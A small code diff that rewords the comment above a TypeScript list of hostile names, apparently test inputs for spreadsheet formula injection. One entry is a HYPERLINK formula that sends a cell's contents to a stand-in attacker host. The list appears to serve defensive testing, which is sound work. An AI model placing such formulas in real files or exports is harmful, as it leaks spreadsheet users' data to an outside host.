@@ -1,4 +1,4 @@
-/** Names that somebody who wants to run something on an administrator's computer would take. */
+/** Names that an attacker would choose to run something on an administrator's computer. */
 export const HOSTILE_NAMES = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
